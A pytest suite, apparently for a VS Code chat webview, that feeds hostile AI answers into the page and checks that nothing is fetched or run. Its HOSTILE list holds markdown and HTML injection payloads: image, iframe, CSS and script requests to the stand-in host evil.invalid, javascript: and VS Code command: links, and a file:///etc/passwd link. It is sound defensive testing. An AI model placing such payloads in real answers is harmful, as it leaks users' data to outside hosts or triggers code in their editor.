"""The chat's page and hostile answers: none makes it fetch or run a thing; where they lead is seen."""

import pytest

from support.vscode_page import ChatPage, a_turn, chat, text, turn

pytestmark = pytest.mark.slow

TAGS = {
    *(
        "article",
        "section",
        "footer",
        "div",
        "span",
        "p",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "br",
        "hr",
    ),
    *(
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "button",
    ),
    *("svg", "path"),
}
ATTRIBUTES = {
    *("class", "title", "role", "tabindex", "type", "start", "scope", "dir", "aria-label", "aria-hidden"),
    *("viewBox", "d"),
}

EVIL = "https://evil.invalid/?d=x"
HOSTILE: dict[str, str] = {
    f"![]({EVIL})": EVIL,
    f"![secret **bold**]({EVIL} 'title')": EVIL,
    f"![alt](<{EVIL}>)": EVIL,
    f"![ref][r]\n\n[r]: {EVIL}": EVIL,
    f"[![inner]({EVIL})](https://other.invalid/)": EVIL,
    f"<img src={EVIL}>": EVIL,
    f'<video poster="{EVIL}" autoplay></video>': EVIL,
    f'<link rel="stylesheet" href="{EVIL}">': EVIL,
    f'<svg><image href="{EVIL}"/></svg>': EVIL,
    f'<div style="background:url({EVIL})">x</div>': EVIL,
    f"<style>body {{ background: url({EVIL}) }}</style>": EVIL,
    f'<iframe src="{EVIL}"></iframe>': EVIL,
    f'<meta http-equiv="refresh" content="0;url={EVIL}">': EVIL,
    f'<base href="{EVIL}">': EVIL,
    f'<form action="{EVIL}"><button>x</button></form>': EVIL,
    f"<script>fetch('{EVIL}')</script>": EVIL,
    "<img src=x onerror=alert(1)>": "onerror=alert(1)",
    '<a href="command:workbench.action.terminal.new">x</a>': "command:workbench.action.terminal.new",
    "![](data:image/svg+xml;base64,PHN2Zy8+)": "data:image/svg+xml;base64,PHN2Zy8+",
    "[run](command:workbench.action.terminal.new)": "command:workbench.action.terminal.new",
    "[open](vscode:extension/evil)": "vscode:extension/evil",
    "[x](javascript:alert(1))": "javascript:alert(1)",
    "[x](java&#115;cript:alert(1))": "javascript:alert(1)",
    "[x](file:///etc/passwd)": "file:///etc/passwd",
    "[x](vscode-webview://x/y)": "vscode-webview://x/y",
    "<javascript:alert(1)>": "javascript:alert(1)",
    f"<{EVIL}>": EVIL,
    f"see {EVIL} there": EVIL,
    f"[https://good.invalid/]({EVIL})": EVIL,
    "[x](https://good.invalid@evil.invalid/)": "https://good.invalid@evil.invalid/",
    f"| a |\n|---|\n| ![]({EVIL}) |": EVIL,
    f"> - ![]({EVIL})": EVIL,
    f"# ![]({EVIL})": EVIL,
    f"```html\n<img src={EVIL}>\n```": EVIL,
    f'```"><img src={EVIL}>\n```': '"><img',
    f"**bold ![]({EVIL}) <b>": EVIL,
}
"""Answers that want something fetched or run, and what of them has to be shown."""

STRANGERS = """
([tags, attributes]) => [...document.querySelectorAll('.answer *, .question *')].flatMap((one) => {
  const strange = [...one.attributes].filter((each) => !attributes.includes(each.name));
  return strange.length > 0 || !tags.includes(one.localName) ? [one.outerHTML] : [];
})
"""


def judge(shown: ChatPage, answers: dict[str, str]) -> None:
    """``answers`` are what the page shows, by the markdown that they were."""
    assert {markdown: seen for markdown, seen in answers.items() if HOSTILE[markdown] not in seen} == {}
    assert strangers(shown) == []
    assert shown.strange() == []
    assert shown.told() == [{"type": "ready"}]


def strangers(shown: ChatPage) -> list[str]:
    """Return the elements and attributes that no answer may become."""
    return shown.page.evaluate(STRANGERS, [sorted(TAGS), sorted(ATTRIBUTES)])


def texts(shown: ChatPage) -> list[str]:
    """Return what each answer shows."""
    return shown.page.evaluate("[...document.querySelectorAll('.answer')].map((one) => one.textContent)")


def test_a_hostile_answer_fetches_nothing_while_it_comes(shown: ChatPage) -> None:
    for index, markdown in enumerate(HOSTILE):
        shown.tell(turn(str(index), state="running"), text(str(index), markdown))
    judge(shown, dict(zip(HOSTILE, texts(shown), strict=True)))


def test_a_hostile_answer_in_two_pieces_is_as_in_one_wherever_it_is_split(shown: ChatPage) -> None:
    answers = dict[str, str]()
    for markdown in HOSTILE:
        splits = range(len(markdown) + 1)
        shown.tell(chat(), *(turn(str(at), state="running") for at in splits))
        shown.tell(*(text(str(at), markdown[:at]) for at in splits))
        shown.tell(*(text(str(at), markdown[at:]) for at in splits))
        drawn = shown.page.evaluate(
            "() => [...new Set([...document.querySelectorAll('.answer')].map((one) => one.innerHTML))]"
        )
        assert len(drawn) == 1, markdown
        assert strangers(shown) == []
        answers[markdown] = texts(shown)[0]
    judge(shown, answers)


def test_a_hostile_answer_fetches_nothing_when_it_is_restored(shown: ChatPage) -> None:
    shown.tell(chat(*(a_turn(str(index), markdown) for index, markdown in enumerate(HOSTILE))))
    judge(shown, dict(zip(HOSTILE, texts(shown), strict=True)))


def test_what_is_no_answer_is_plain_text_too(shown: ChatPage) -> None:
    markup = f"<img src={EVIL}> ![]({EVIL})"
    failure = {"message": markup, "hint": markup, "actions": [{"title": markup, "command": "x"}]}
    shown.tell(
        chat(
            a_turn("1", state="failed", question=markup, attached=[markup], footer=[markup], failure=failure),
            a_turn("2", "", state="running", question=markup, hint=markup),
            model=markup,
            spent=markup,
            pending=[{"id": "a", "label": markup}],
        )
    )
    assert shown.page.locator("img, a, iframe, input, object, embed, style").count() == 0
    assert shown.page.evaluate("document.body.innerText").count(EVIL) >= 16


def test_a_link_is_opened_by_who_clicks_it_and_says_where_it_leads(shown: ChatPage) -> None:
    shown.tell(
        chat(
            a_turn(
                "1",
                f"[docs](https://Good.invalid/a%20b) [mail](mailto:a@b.org) [https://good.invalid/]({EVIL})",
            )
        )
    )
    shown.told()
    links = shown.page.get_by_role("link")
    assert links.all_inner_texts() == [
        "docs (https://good.invalid/a%20b)",
        "mail (mailto:a@b.org)",
        f"https://good.invalid/ ({EVIL})",
    ]
    links.nth(0).click()
    links.nth(2).focus()
    shown.page.keyboard.press("Enter")
    assert shown.told() == [
        {"type": "open", "url": "https://good.invalid/a%20b"},
        {"type": "open", "url": EVIL},
    ]
    assert links.nth(2).get_attribute("title") == EVIL
